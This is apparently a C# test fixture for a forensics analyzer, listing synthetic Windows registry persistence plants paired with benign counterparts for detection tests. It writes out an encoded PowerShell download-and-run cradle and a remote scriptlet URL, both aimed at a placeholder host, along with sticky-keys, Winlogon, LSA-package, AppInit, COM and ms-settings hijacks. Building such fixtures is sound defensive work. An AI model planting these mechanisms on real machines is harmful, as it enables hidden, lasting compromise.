using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>What the registry starts or loads: services, Run entries, Winlogon and their kin.</summary>
internal static class WindowsRegistryPlants
{
    private const string Vendor = "/ProgramData/Vendor/host.exe";
    private const string Dll = "/ProgramData/Vendor/host.dll";

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
    private static readonly string s_cradle = "powershell.exe -nop -w hidden -enc " + WindowsTaskPlants.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/w')");
    private static readonly PlantedPe s_signed = new() { Seed = "vendor", IsSigned = true };

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-SERVICE", "loud-shell", PlantKind.Loud, tree => Hives(tree, hive => Service(hive, "Updater", "%COMSPEC% /c " + s_cradle))) { Rule = "shell" },
            new("W-SERVICE", "loud-library-of-svchost", PlantKind.Loud, tree => Hives(tree.Pe(Dll), hive => Replace(hive.Key(Set + @"Services\BITS\Parameters"), "ServiceDll", @"C:\ProgramData\Vendor\host.dll"))) { Rule = "foreign-library" },
            new("W-SERVICE", "quiet-miner", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), hive => Service(hive, "VendorHost", @"C:\ProgramData\Vendor\host.exe -s"))) { AtLeast = Severity.Critical, Entries = [SystemFile] },
            new("W-SERVICE", "quiet-driver-in-fonts", PlantKind.Quiet, tree => Hives(tree.Pe("/Windows/Fonts/mem.sys"), hive => Service(hive, "memdrv", @"\??\C:\Windows\Fonts\mem.sys", start: 1, type: 1))) { Rule = "target-odd-place", Entries = [SystemFile] },
            new("W-SERVICE", "dormant-miner", PlantKind.Dormant, tree => Hives(tree.Pe(Vendor, s_miner), hive => Service(hive, "VendorHost", @"C:\ProgramData\Vendor\host.exe -s", start: 4))) { TwinOf = "quiet-miner" },
            new("W-SERVICE", "benign-stock", PlantKind.Benign, tree => Hives(tree)),
            new("W-SERVICE", "benign-vendor", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Vendor/agent.exe", s_signed), hive => Service(hive, "VendorAgent", @"C:\Program Files\Vendor\agent.exe /svc"))),
            new("W-RUN", "loud-encoded", PlantKind.Loud, tree => Hives(tree, software: hive => hive.Key(Cv + "Run").Text("Updater", s_cradle))) { Rule = "powershell-download-run" },
            new("W-RUN", "loud-name-of-nul", PlantKind.Loud, tree => Hives(tree.Pe(Vendor), user: hive => hive.Key(@"Software\" + Cv + "Run").Text("\0x", @"C:\ProgramData\Vendor\host.exe"))) { Rule = "unreadable-name" },
            new("W-RUN", "quiet-miner", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => hive.Key(Cv + "Run").Text("Vendor", @"C:\ProgramData\Vendor\host.exe"))) { AtLeast = Severity.Critical, Entries = [Software] },
            new("W-RUN", "quiet-miner-of-user", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/alice/AppData/Roaming/Sync/sync.exe", s_miner), user: hive => hive.Key(@"Software\" + Cv + "Run").Expandable("Sync", @"%APPDATA%\Sync\sync.exe"))) { AtLeast = Severity.Critical, Entries = [User] },
            new("W-RUN", "benign-updater", PlantKind.Benign, tree => Hives(tree.Pe("/Users/alice/AppData/Local/Microsoft/Teams/Update.exe", s_signed), user: hive => hive.Key(@"Software\" + Cv + "Run").Text("Teams", "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\""))),
            new("W-RUN", "benign-tidying", PlantKind.Benign, tree => Hives(tree, user: hive => hive.Key(@"Software\" + Cv + "RunOnce").Text("Uninstall 22.0", "C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q \"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\22.0\""))),
            new("W-WINLOGON", "loud-second-userinit", PlantKind.Loud, tree => Hives(tree.Pe("/ProgramData/w.exe"), software: hive => Replace(hive.Key(Nt + "Winlogon"), "Userinit", @"C:\Windows\system32\userinit.exe,C:\ProgramData\w.exe"))) { Rule = "non-default" },
            new("W-WINLOGON", "quiet-miner-as-shell", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => Replace(hive.Key(Nt + "Winlogon"), "Shell", @"explorer.exe, C:\ProgramData\Vendor\host.exe"))) { AtLeast = Severity.Critical, Entries = [Software] },
            new("W-WINLOGON", "benign-kiosk", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Kiosk/kiosk.exe", s_signed), software: hive => Replace(hive.Key(Nt + "Winlogon"), "Shell", @"C:\Program Files\Kiosk\kiosk.exe"))),
            new("W-IFEO", "loud-sticky-keys", PlantKind.Loud, tree => Hives(tree, software: hive => hive.Key(Nt + @"Image File Execution Options\sethc.exe").Text("Debugger", @"C:\Windows\System32\cmd.exe"))) { Rule = "logon-screen", AtLeast = Severity.Critical },
            new("W-IFEO", "quiet-miner-on-exit", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => { hive.Key(Nt + @"SilentProcessExit\notepad.exe").Text("MonitorProcess", @"C:\ProgramData\Vendor\host.exe").Number("ReportingMode", 1); hive.Key(Nt + @"Image File Execution Options\notepad.exe").Number("GlobalFlag", 0x200); })) { AtLeast = Severity.Critical, Entries = [Software] },
            new("W-IFEO", "benign-process-explorer", PlantKind.Benign, tree => Hives(tree.Pe("/Program Files/Sysinternals/procexp64.exe", s_signed), software: hive => hive.Key(Nt + @"Image File Execution Options\taskmgr.exe").Text("Debugger", "\"C:\\Program Files\\Sysinternals\\procexp64.exe\""))),
            new("W-APPINIT", "quiet-library", PlantKind.Quiet, tree => Hives(tree.Pe(Dll), software: hive => ReplaceNumber(Replace(hive.Key(Nt + "Windows"), "AppInit_DLLs", @"C:\ProgramData\Vendor\host.dll"), "LoadAppInit_DLLs", 1))) { Rule = "library", Entries = [Software] },
            new("W-APPINIT", "dormant-library", PlantKind.Dormant, tree => Hives(tree.Pe(Dll), software: hive => Replace(hive.Key(Nt + "Windows"), "AppInit_DLLs", @"C:\ProgramData\Vendor\host.dll"))) { TwinOf = "quiet-library" },
            new("W-APPINIT", "benign-display-driver", PlantKind.Benign, tree => Hives(tree.Pe("/Windows/System32/nvinitx.dll", s_signed), software: hive => Replace(hive.Key(Nt + "Windows"), "AppInit_DLLs", @"C:\Windows\system32\nvinitx.dll"))),
            new("W-LSA", "loud-filter", PlantKind.Loud, tree => Hives(tree.Pe("/Windows/System32/evilpw.dll"), hive => ReplaceAll(hive.Key(Set + @"Control\Lsa"), "Notification Packages", "scecli", "evilpw"))) { Rule = "package" },
            new("W-LSA", "quiet-package", PlantKind.Quiet, tree => Hives(tree.Pe("/Windows/System32/mssspx.dll"), hive => ReplaceAll(hive.Key(Set + @"Control\Lsa\OSConfig"), "Security Packages", "kerberos", "msv1_0", "mssspx"))) { Rule = "package", Entries = [SystemFile] },
            new("W-LSA", "benign-password-protection", PlantKind.Benign, tree => Hives(tree.Pe("/Windows/System32/AzureADPasswordProtectionFilter.dll", s_signed), hive => ReplaceAll(hive.Key(Set + @"Control\Lsa"), "Notification Packages", "scecli", "AzureADPasswordProtectionFilter"))),
            new("W-SESSMGR", "quiet-boot-program", PlantKind.Quiet, tree => Hives(tree.Pe("/Windows/Temp/chk.exe"), hive => ReplaceAll(hive.Key(Set + @"Control\Session Manager"), "BootExecute", "autocheck autochk *", @"C:\Windows\Temp\chk.exe"))) { Rule = "non-default", Entries = [SystemFile] },
            new("W-SESSMGR", "benign-check-of-disk", PlantKind.Benign, tree => Hives(tree, hive => ReplaceAll(hive.Key(Set + @"Control\Session Manager"), "BootExecute", @"autocheck autochk /r \??\C:", "autocheck autochk *"))),
            new("W-PRINT", "quiet-monitor", PlantKind.Quiet, tree => Hives(tree.Pe(Dll), hive => hive.Key(Set + @"Control\Print\Monitors\Vendor Port").Text("Driver", @"C:\ProgramData\Vendor\host.dll"))) { Rule = "foreign", Entries = [SystemFile] },
            new("W-PRINT", "benign-pdf-printer", PlantKind.Benign, tree => Hives(tree.Pe("/Windows/System32/pdfmona.dll", s_signed), hive => hive.Key(Set + @"Control\Print\Monitors\PDF Port").Text("Driver", "pdfmona.dll"))),
            new("W-COM", "loud-scriptlet", PlantKind.Loud, tree => Hives(tree, classes: hive => hive.Key(@"CLSID\{11111111-2222-3333-4444-555555555555}\ScriptletURL").Text("", "http://203.0.113.9/x.sct"))) { Rule = "scriptlet" },
            new("W-COM", "quiet-shadowed-class", PlantKind.Quiet, tree => Hives(tree.Pe("/Users/alice/AppData/Roaming/Sync/sync.dll"), classes: hive => hive.Key(@"CLSID\{BCDE0395-E52F-467C-8E3D-C4579291692E}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Sync\sync.dll"))) { Rule = "shadowed-class", Entries = [Classes] },
            new("W-COM", "benign-own-class", PlantKind.Benign, tree => Hives(tree.Pe("/Users/alice/AppData/Roaming/Dropbox/ext.dll", s_signed), classes: hive => hive.Key(@"CLSID\{ECD97DE5-3C8F-4ACB-AEEE-CCAB78F7711C}\InprocServer32").Text("", @"C:\Users\alice\AppData\Roaming\Dropbox\ext.dll"))),
            new("W-ASSOC", "loud-rights-of-settings", PlantKind.Loud, tree => Hives(tree.Pe(Vendor), classes: hive => hive.Key(@"ms-settings\shell\open\command").Text("", @"C:\ProgramData\Vendor\host.exe").Text("DelegateExecute", ""))) { Rule = "non-default" },
            new("W-ASSOC", "quiet-miner-for-programs", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => Replace(hive.Key(@"Classes\exefile\shell\open\command"), "", "C:\\ProgramData\\Vendor\\host.exe \"%1\" %*"))) { AtLeast = Severity.Critical, Entries = [Software] },
            new("W-ASSOC", "benign-conda", PlantKind.Benign, tree => Hives(tree.File("/Users/alice/miniconda3/condabin/conda_hook.bat", "@echo off\r\n"), user: hive => hive.Key(@"Software\Microsoft\Command Processor").Text("AutoRun", "if exist \"C:\\Users\\alice\\miniconda3\\condabin\\conda_hook.bat\" \"C:\\Users\\alice\\miniconda3\\condabin\\conda_hook.bat\""))),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];
}
